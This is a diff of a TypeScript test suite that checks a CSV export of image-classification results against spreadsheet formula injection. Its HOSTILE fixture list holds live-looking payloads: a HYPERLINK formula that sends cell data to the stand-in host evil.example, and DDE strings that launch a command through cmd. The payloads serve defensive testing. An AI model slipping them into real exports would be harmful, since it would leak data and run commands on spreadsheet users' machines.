@@ -14,18 +14,26 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
       else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(cell), (cell = '');
-    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
+    else if (c === ',') (row.push(cell), (cell = ''));
+    else if (c === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''));
     else cell += c;
   }
   return rows;
 }
 
-const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1,2'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '=1,2',
+];
 
 describe('CSV export against formula injection', () => {
   it('prefixes cells that start with = + - @ tab or CR with an apostrophe', () => {
@@ -43,7 +51,11 @@ describe('CSV export against formula injection', () => {
   });
 
   it('no cell of a folder export with hostile labels, file names and errors starts a formula', () => {
-    const rows = HOSTILE.map((h, i) => ({ file: `${h}.jpg`, top1: { index: i, label: h, score: 0.5 }, latencyMs: 1.5 }));
+    const rows = HOSTILE.map((h, i) => ({
+      file: `${h}.jpg`,
+      top1: { index: i, label: h, score: 0.5 },
+      latencyMs: 1.5,
+    }));
     rows.push({ file: 'ok.jpg', top1: { index: 88, label: 'macaw', score: 0.99 }, latencyMs: 2 });
     const csv = batchCsv([...rows, { file: 'bad.jpg', error: '=cmd|"/C calc"!A0' } as never]);
     const parsed = parseCsv(csv);
@@ -51,7 +63,8 @@ describe('CSV export against formula injection', () => {
     assert.equal(parsed.length, rows.length + 2);
     for (const row of parsed.slice(1)) {
       assert.equal(row.length, 6, JSON.stringify(row));
-      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} would run as a formula`);
+      for (const cell of row)
+        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} would run as a formula`);
     }
     // The text itself survives: only the apostrophe is added.
     HOSTILE.forEach((h, i) => assert.equal(parsed[i + 1][1], `'${h}`));
